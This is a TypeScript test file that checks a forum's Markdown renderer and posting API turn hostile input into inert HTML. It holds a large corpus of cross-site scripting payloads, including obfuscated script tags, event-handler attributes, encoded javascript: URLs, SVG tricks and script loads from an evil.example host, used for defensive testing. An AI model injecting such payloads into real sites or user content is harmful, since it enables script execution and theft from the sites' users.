// Hostile Markdown and HTML in discussion posts (XSS cheat-sheet style) comes out as inert HTML, through the renderer and the API.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { renderMarkdown } from '../../server/markdown.js';
import { createWorld, startThread, type World } from './setup.js';

/** The hostile corpus: one entry per trick. */
const CORPUS: string[] = [
  // script tags, plain and obfuscated
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<ScRiPt>alert(1)</sCrIpT>',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="https://ok.example" onclick="alert(1)">click</a>',
  '<a href="https://ok.example"onclick=alert(1)>click</a>',
  '<p/onclick=alert(1)>text</p>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<video><source onerror="alert(1)">',
  '<marquee onstart=alert(1)>',
  // javascript:, data:, vbscript: URLs, plain, encoded, mixed case, with whitespace
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( javascript:alert(1) )',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))',
  '[click](jav&#x09;ascript:alert(1))',
  '[click](java\0script:alert(1))',
  '[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/phish">protocol-relative</a>',
  '<a href="https://ok.example" target="_blank">opener</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  // svg and math
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  // style attributes and tags
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1));">ie</div>',
  '<style>@import "https://evil.example/x.css"; body { background: url(javascript:alert(1)) }</style>',
  '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
  // iframes and friends
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<template><script>alert(1)</script></template>',
  // remote images for tracking
  '![pixel](https://tracker.example/pixel.gif?user=42)',
  '![pixel][p]\n\n[p]: https://tracker.example/p.gif',
  '<img src="https://tracker.example/pixel.gif" width=1 height=1>',
  '<picture><source srcset="https://tracker.example/p.webp"><img src="https://tracker.example/p.gif"></picture>',
  '<table background="https://tracker.example/bg.gif"><tr><td>x</td></tr></table>',
  '<audio src="https://tracker.example/a.mp3" autoplay></audio>',
  // nested and broken tags
  '<a href="https://ok.example"><a href="javascript:alert(1)">nested</a></a>',
  '<<img src=x onerror=alert(1)//<',
  '<img """><script>alert(1)</script>">',
  '<div><p><b><i onclick=alert(1)>deep</b></p>',
  '<a href="https://ok.example" title="x" onmouseover=alert(1) x="',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<textarea><script>alert(1)</script></textarea>',
  // HTML entities and encodings
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script\\>alert(1)\\</script\\>',
  '<a href="https://ok.example/?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">q</a>',
  '[q](https://ok.example/"onmouseover="alert(1))',
  '[q](https://ok.example/ "title\\" onmouseover=\\"alert(1)")',
  '<code class="language-js onload=alert(1)">x</code>',
  '<code class="x" id="y" data-x="1">x</code>',
  '<h1 id="fragment">Top</h1>',
];

const ALLOWED_TAGS = new Set(['p', 'br', 'hr', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'code', 'em', 'strong', 'del', 's', 'ul', 'ol', 'li', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'sup', 'sub']);
const ALLOWED_ATTRS: Record<string, string[]> = { a: ['href', 'title', 'rel'], th: ['align'], td: ['align'], ol: ['start'], code: ['class'] };

function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(parseInt(d, 10)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** Asserts the HTML is inert: only allowed tags and attributes, safe link schemes, no handlers, styles or sources. */
function assertSafe(html: string, input: string): void {
  const why = `input: ${JSON.stringify(input)}\noutput: ${html}`;
  // The literal checks the brief names, on the whole output.
  expect(html, why).not.toMatch(/<script/i);
  expect(html, why).not.toMatch(/<(iframe|frame|object|embed|svg|math|style|img|picture|source|audio|video|form|input|button|select|textarea|link|meta|base|template|noscript|xmp|plaintext|marquee|details|body|div|span)\b/i);
  // Every "<" starts an allowed tag; text never carries a raw "<".
  expect(html.replace(/<\/?([a-z][a-z0-9]*)(\s[^<>]*)?>/gi, ''), why).not.toContain('<');
  const tags = html.match(/<[^>]*>/g) ?? [];
  for (const tag of tags) {
    const m = /^<\/?([a-zA-Z][a-zA-Z0-9]*)/.exec(tag)!;
    const name = m[1].toLowerCase();
    expect(ALLOWED_TAGS.has(name), `tag <${name}> ${why}`).toBe(true);
    if (tag.startsWith('</')) continue;
    const attrs = [...tag.slice(m[0].length).matchAll(/\s([^\s=>/]+)(?:="([^"]*)")?/g)];
    for (const [, attr, raw = ''] of attrs) {
      expect(ALLOWED_ATTRS[name] ?? [], `attribute ${attr} on <${name}> ${why}`).toContain(attr.toLowerCase());
      const value = decodeEntities(raw).replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
      if (attr === 'href') {
        // A scheme, if any, is one of the three; protocol-relative links (another host) are refused too.
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(value)?.[1];
        if (scheme) expect(['http', 'https', 'mailto'], `href scheme ${why}`).toContain(scheme);
        expect(value.startsWith('//'), `protocol-relative href ${why}`).toBe(false);
      }
      if (attr === 'class') expect(raw, why).toMatch(/^language-[a-z0-9-]+$/);
      if (attr === 'rel') expect(raw, why).toBe('nofollow ugc noopener');
    }
  }
  // Within the markup itself (text may mention these words harmlessly), nothing executable survives. Attribute
  // values are always double-quoted with inner quotes encoded, so a title saying 'onmouseover=' is inert text:
  // the handler check looks at the markup with quoted values taken out, the scheme check at every decoded value.
  const names = tags.map((t) => t.replace(/="[^"]*"/g, '')).join(' ');
  expect(names, why).not.toMatch(/\son\w+\s*=?/i);
  expect(names, why).not.toMatch(/\s(style|src|srcset|srcdoc|background|action|formaction|xlink:href|id|target)\b/i);
  const values = tags.flatMap((t) => [...t.matchAll(/\s(href|title|class|rel|align|start)="([^"]*)"/g)].map((m) => ({ attr: m[1], value: decodeEntities(m[2]) })));
  for (const { attr, value } of values) {
    // An https link may carry "javascript:" inside its path or query: only its scheme matters (checked above).
    if (attr === 'href') expect(value.replace(/[\u0000-\u0020]/g, ''), why).not.toMatch(/^(javascript|vbscript|livescript|data):/i);
    else if (attr !== 'title') expect(value.replace(/\s/g, ''), why).not.toMatch(/javascript:|vbscript:|livescript:|data:/i);
  }
}

describe('hostile Markdown and HTML rendered safe', () => {
  it.each(CORPUS.map((input, i) => [i, input] as const))('corpus entry %i is inert', (_i, input) => {
    assertSafe(renderMarkdown(input), input);
  });

  it('every link that survives is marked rel="nofollow ugc noopener" and no image survives at all', () => {
    for (const input of CORPUS) {
      const html = renderMarkdown(input);
      for (const a of html.match(/<a\s[^>]*>/g) ?? []) expect(a).toContain('rel="nofollow ugc noopener"');
      expect(html).not.toMatch(/tracker\.example\/[^"]*\.(gif|webp|mp3)"/);
    }
  });

  it('ordinary Markdown still works: emphasis, links, lists, code, tables, headings demoted below the page title', () => {
    const html = renderMarkdown(
      '# Plan\n\n**Bold** and _italic_, a [link](https://library.example/plan "Plan").\n\n1. one\n2. two\n\n```js\nlet x = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nmail <me@library.example>',
    );
    expect(html).toContain('<h2>Plan</h2>');
    expect(html).toContain('<strong>Bold</strong>');
    expect(html).toContain('<em>italic</em>');
    expect(html).toContain('<a href="https://library.example/plan" title="Plan" rel="nofollow ugc noopener">link</a>');
    expect(html).toContain('<ol>');
    expect(html).toContain('<code class="language-js">');
    expect(html).toContain('<table>');
    expect(html).toContain('href="mailto:me@library.example"');
    assertSafe(html, 'ordinary');
  });

  it('random mixtures of hostile fragments and Markdown stay inert (property)', () => {
    const fragment = fc.constantFrom(
      ...CORPUS,
      '<', '>', '"', "'", '=', '`', '[', ']', '(', ')', '&#', ';', ':', '\n', '\n\n', '*', '_', '!', ' ',
      'javascript', 'JaVaScRiPt', 'data', 'vbscript', 'on', 'error', 'load', 'img', 'a href', 'svg', 'script', 'style', 'iframe',
    );
    fc.assert(
      fc.property(fc.array(fragment, { minLength: 1, maxLength: 12 }), (parts) => {
        const input = parts.join('');
        assertSafe(renderMarkdown(input), input);
      }),
      { numRuns: 400 },
    );
  });
});

describe('hostile posts through the API', () => {
  let w: World;
  beforeAll(async () => {
    w = await createWorld();
  });
  afterAll(async () => w.t.close());

  it('stores and returns only sanitised HTML for every corpus entry (or refuses what is left empty)', async () => {
    const threadId = await startThread(w.a.learner.api, w.a.id, 'Corpus', 'the corpus follows');
    let stored = 0;
    for (const input of CORPUS) {
      const res = await w.a.learner.api('POST', `/api/v1/threads/${threadId}/posts`, { body: input });
      expect([201, 400], input).toContain(res.statusCode);
      if (res.statusCode === 400) {
        expect(res.json().detail).toContain('body');
        continue;
      }
      stored++;
      assertSafe(res.json().html, input);
    }
    expect(stored).toBeGreaterThan(CORPUS.length / 2);
    const scope = await w.t.ctx.discussions.threadById(await w.t.ctx.people.get(w.a.learner2.user.id), threadId);
    const pages = await w.t.ctx.discussions.pageCount(threadId);
    for (let page = 1; page <= pages; page++) {
      for (const p of (await w.t.ctx.discussions.readThread(scope, page)).posts) assertSafe(p.html, `post ${p.id}`);
    }
  });
});
